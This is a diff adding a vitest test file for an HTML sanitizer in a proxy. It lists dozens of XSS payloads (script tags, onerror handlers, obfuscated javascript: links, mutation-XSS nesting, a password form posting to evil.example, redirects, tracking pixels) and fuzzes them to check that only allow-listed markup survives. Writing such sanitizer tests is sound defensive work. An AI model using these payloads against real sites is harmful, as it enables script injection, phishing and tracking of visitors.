@@ -1,0 +1,182 @@
+import fc from 'fast-check'
+import { Window } from 'happy-dom'
+import { expect, test } from 'vitest'
+import { cleanHtml } from '#relay/proxy/clean-html.ts'
+import { Addresses } from '#relay/upstream/addresses.ts'
+
+const addresses = new Addresses(new URL('https://origin.example/base'), ['pictures.example'])
+const clean = (html: string) => cleanHtml(html, (address) => addresses.shown(address))
+
+const hostile = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="javascript:alert(1)">',
+  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
+  '<img src="/a.webp" onload="alert(1)" style="position:fixed;inset:0">',
+  '<img srcset="javascript:alert(1) 1x, https://evil.example/a.png 2x">',
+  '<svg onload=alert(1)><circle r=1></svg>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href=" java&#x0A;script:alert(1)">x</a>',
+  '<a href="&#106;avascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="\u0001javascript:alert(1)">x</a>',
+  '<a href="//evil.example" onclick="alert(1)" style="color:red" target=_blank>x</a>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="data:text/html,<script>alert(1)</script>"></object>',
+  '<embed src="javascript:alert(1)">',
+  '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<link rel=stylesheet href="https://evil.example/x.css">',
+  '<style>@import "https://evil.example/x.css"; * { display: none }</style>',
+  '<p style="background:url(https://evil.example/x)">x</p>',
+  '<div onpointerenter=alert(1) contenteditable autofocus onfocus=alert(1)>x</div>',
+  '<details open ontoggle=alert(1)><summary>x</summary></details>',
+  '<video><source onerror=alert(1) src=x></video>',
+  '<audio src=x onerror=alert(1)>',
+  '<body onload=alert(1)>',
+  '<table background="javascript:alert(1)"><td background="x">x</td></table>',
+  '<template><img src=x onerror=alert(1)></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<textarea><img src=x onerror=alert(1)></textarea>',
+  '<title><img src=x onerror=alert(1)></title>',
+  '<xmp><img src=x onerror=alert(1)></xmp>',
+  '<plaintext><img src=x onerror=alert(1)>',
+  '<select><option><img src=x onerror=alert(1)></option></select>',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<!--[if IE]><script>alert(1)</script><![endif]-->',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
+  '<p id="loggedInUser" name="cookie">x</p>',
+  '<img name=body src="/a.png">',
+  '<p "onmouseover=alert(1)//">x</p>',
+  '<p/onclick=alert(1)>x</p>',
+  '<img/src="/a.png"/onerror=alert(1)>',
+  '<a href="https://evil.example" ping="https://evil.example" download>x</a>',
+  '<custom-element onclick=alert(1)>x</custom-element>',
+  '<p is="evil-element">x</p>',
+  `${'<div>'.repeat(5000)}x`,
+  '<img src="https://evil.example/pixel.gif">',
+  '<img src="//evil.example/pixel.gif">',
+  '<img src="/\\evil.example/pixel.gif">',
+  '<img src="http://pictures.example/a.png">',
+  '<picture><source srcset="https://evil.example/a.avif"><img src="/a.png"></picture>',
+  '<blockquote cite="https://evil.example"><q cite="javascript:alert(1)">x</q></blockquote>',
+]
+
+const ELEMENTS =
+  'p br hr h2 h3 h4 h5 h6 blockquote pre div section ul ol li dl dt dd a em strong b i u s small sub sup mark del ins span code kbd samp var abbr cite q time table caption colgroup col thead tbody tfoot tr th td figure figcaption picture source img'.split(
+    ' ',
+  )
+const ATTRIBUTES =
+  'lang dir title href rel src srcset sizes alt width height loading decoding type media start reversed value scope colspan rowspan span datetime'.split(
+    ' ',
+  )
+
+/** Everything that a browser would make of it is on the list, and every address is the site's or an allowed one's. */
+function expectHarmless(html: string): void {
+  const page = new Window().document
+  page.body.innerHTML = html
+  for (const element of page.body.querySelectorAll('*')) {
+    expect([html, ELEMENTS.includes(element.localName)]).toEqual([html, true])
+    for (const { name, value } of element.attributes) {
+      expect([html, name, ATTRIBUTES.includes(name)]).toEqual([html, name, true])
+      if (name === 'src') expect(value).toMatch(/^(\/(?![/\\])|https:\/\/pictures\.example\/)/)
+      if (name === 'srcset') expect(value).not.toMatch(/evil|javascript|data:/)
+      if (name === 'href') expect(value).toMatch(/^(#|\/(?![/\\])|https?:\/\/|mailto:|tel:)/)
+    }
+    if (/^https?:/.test(element.getAttribute('href') ?? '')) {
+      expect(element.getAttribute('rel')).toBe('noopener noreferrer')
+    }
+  }
+}
+
+test('nothing hostile is left of what came', () => {
+  for (const html of hostile) expectHarmless(clean(html))
+})
+
+test('nothing hostile is left of any mixture, and cleaning twice changes nothing more', () => {
+  const piece = fc.oneof(
+    fc.constantFrom(...hostile.filter((html) => html.length < 500)),
+    fc.constantFrom(
+      '<',
+      '>',
+      '"',
+      "'",
+      '</p>',
+      '<p>',
+      '<!--',
+      '-->',
+      '&lt;script&gt;',
+      '</script>',
+      '<table>',
+    ),
+    fc.string({ maxLength: 8 }),
+  )
+  fc.assert(
+    fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
+      const once = clean(pieces.join(''))
+      expectHarmless(once)
+      expect(clean(once)).toBe(once)
+    }),
+    { numRuns: 200 },
+  )
+})
+
+test.each([
+  ['<p>Hello <b>there</b><script>x()</script></p>', '<p>Hello <b>there</b></p>'],
+  ['<marquee>News</marquee>', 'News'],
+  ['<p onclick="x()">A <font color=red>red</font> ball &lt;b&gt;</p>', '<p>A red ball &lt;b&gt;</p>'],
+])('of %s the text stays', (html, cleaned) => {
+  expect(clean(html)).toBe(cleaned)
+})
+
+test('an article keeps its headings, lists, quotes, tables, figures and words', () => {
+  const article = [
+    '<h2>Head</h2><p>A <em>word</em>, <strong>another</strong>, <code>x &lt; y</code> and <a href="/news">more</a>.</p>',
+    '<ul><li>one</li></ul><ol start="3"><li>three</li></ol><blockquote><p>Said.</p></blockquote>',
+    '<table><caption>Table</caption><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
+    '<figure><picture><source srcset="/api/Media/pictures/w400/a-800x600.avif 400w, /api/Media/pictures/a-800x600.avif 800w" type="image/avif" sizes="(min-width: 60rem) 40rem, 100vw" />',
+    '<img src="/api/Media/pictures/a-800x600.webp" alt="A &quot;drawn&quot; field" width="800" height="600" loading="lazy" /></picture><figcaption>Drawn.</figcaption></figure>',
+    '<p lang="hi">नमस्ते</p>',
+  ].join('')
+  expect(clean(article)).toBe(article)
+})
+
+test('the first heading of a page is the page’s own', () => {
+  expect(clean('<h1>Title</h1>')).toBe('<h2>Title</h2>')
+})
+
+test.each([
+  ['https://elsewhere.example/x', 'href="https://elsewhere.example/x" rel="noopener noreferrer"'],
+  ['/\\elsewhere.example', 'href="https://elsewhere.example/" rel="noopener noreferrer"'],
+  ['//elsewhere.example/x', 'href="https://elsewhere.example/x" rel="noopener noreferrer"'],
+  ['/news/news-detail/1-x?a=1#b', 'href="/news/news-detail/1-x?a=1#b"'],
+  ['#notes', 'href="#notes"'],
+  ['mailto:desk@example.org', 'href="mailto:desk@example.org"'],
+  ['https://origin.example/base/api/Media/a.pdf', 'href="/api/Media/a.pdf"'],
+])('a link to %s becomes %s', (href, attributes) => {
+  expect(clean(`<a href="${href}" rel="opener">x</a>`)).toBe(`<a ${attributes}>x</a>`)
+})
+
+test.each([
+  ['/api/Media/a.webp', '/api/Media/a.webp'],
+  ['https://origin.example/base/api/Media/a.webp', '/api/Media/a.webp'],
+  ['https://pictures.example/a.webp', 'https://pictures.example/a.webp'],
+])('a picture at %s is shown from %s', (src, shown) => {
+  expect(clean(`<img src="${src}" alt="">`)).toBe(`<img src="${shown}" alt="" />`)
+})
+
+test('a text that no article could have is shown as text', () => {
+  const html = `<img src=x onerror=alert(1)>${'<b>'.repeat(200_000)}`
+  expectHarmless(clean(html))
+  expect(clean(html)).toMatch(/^<p>&lt;img/)
+})
